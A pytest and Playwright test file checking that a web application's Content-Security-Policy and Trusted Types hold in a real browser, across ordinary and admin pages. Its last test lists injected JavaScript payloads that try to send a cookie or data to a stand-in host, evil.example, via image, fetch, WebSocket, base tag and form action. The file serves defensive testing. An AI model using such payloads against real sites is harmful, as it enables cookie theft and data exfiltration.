"""The Content-Security-Policy in a real browser: no page is against it, and it holds."""

import pytest
from browsers import REFUSAL
from playwright.sync_api import Error, expect

MADE_THERE = ("user", "group", "membership")  # what the administration creates


def test_no_page_is_against_the_policy(alice, together, complaints):
    complaints.excuse(REFUSAL)
    group = f"/groups/{together}/"
    alice.wrote(together, "https://example.org")
    others = ["/nope", "/healthz", "/accounts/signup/", "/groups/"]
    pages = ["/", group, f"{group}?at=1", f"{group}?before=3", f"{group}members/?q=a", *others]
    pages += [f"{group}messages/3/{page}/" for page in ("actions", "edit", "delete", "history", "history/forget")]

    for path in pages:
        alice.page.goto(path)

    # Chromium logs each violation to the console, and an error there fails the test.
    assert complaints.found() == []


def test_no_page_of_the_administration_is_against_the_policy(alice, together, complaints):
    for section in (*MADE_THERE, "message", "event", "change"):
        alice.page.goto(f"/admin/{section}/list")
    for section in MADE_THERE:
        alice.page.goto(f"/admin/{section}/create")
    for page in ("View", "Edit", "Delete"):
        alice.page.goto("/admin/group/list")
        alice.page.get_by_role("link", name=f"{page} Gardening").click()
        expect(alice.find("h1")).to_contain_text("Gardening" if page != "Delete" else "Delete")

    assert complaints.found() == []


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<b>bold</b>'",
        "document.body.setAttribute('onclick', 'alert(1)')",
        "new DOMParser().parseFromString('<b>', 'text/html')",
        "trustedTypes.createPolicy('mine', {})",
    ],
)
def test_text_does_not_become_markup_even_by_mistake(alice, complaints, attempt):
    complaints.excuse("This document requires|.*violates the following|.*Trusted")
    alice.page.goto("/accounts/signup/")

    with pytest.raises(Error, match=r"Trusted|disallowed"):
        alice.page.evaluate(f"() => {{ {attempt} }}")


def test_no_timer_runs_text(alice, complaints):
    complaints.excuse("This document requires|.*violates the following")
    alice.page.goto("/accounts/signup/")

    ran = alice.page.evaluate("""() => new Promise(done => {
      try { setTimeout("window.ran = document.URL") } catch { /* Trusted Types say so, script-src does not */ }
      setTimeout(() => done(window.ran ?? "nothing"))
    })""")

    assert ran == "nothing"


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("new Image().src = 'https://evil.example/?cookie'", "img-src"),
        ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
        ("new WebSocket('wss://evil.example/')", "connect-src"),
        ("document.body.append(Object.assign(document.createElement('iframe'), { src: '/healthz' }))", "frame-src"),
        ("document.head.append(Object.assign(document.createElement('base'), { href: '//evil.example' }))", "base-uri"),
        ("document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()", "form-action"),
        ("document.body.append(document.createElement('style'))", "style-src-elem"),
    ],
)
def test_injected_markup_leads_nowhere(alice, complaints, attempt, directive):
    complaints.excuse(".*violates the following|WebSocket connection|Fetch API cannot load|Refused to")
    alice.page.goto("/accounts/signup/")

    violated = alice.page.evaluate(f"""() => new Promise(done => {{
      addEventListener("securitypolicyviolation", event => done(event.effectiveDirective))
      {attempt}
    }})""")

    assert violated == directive
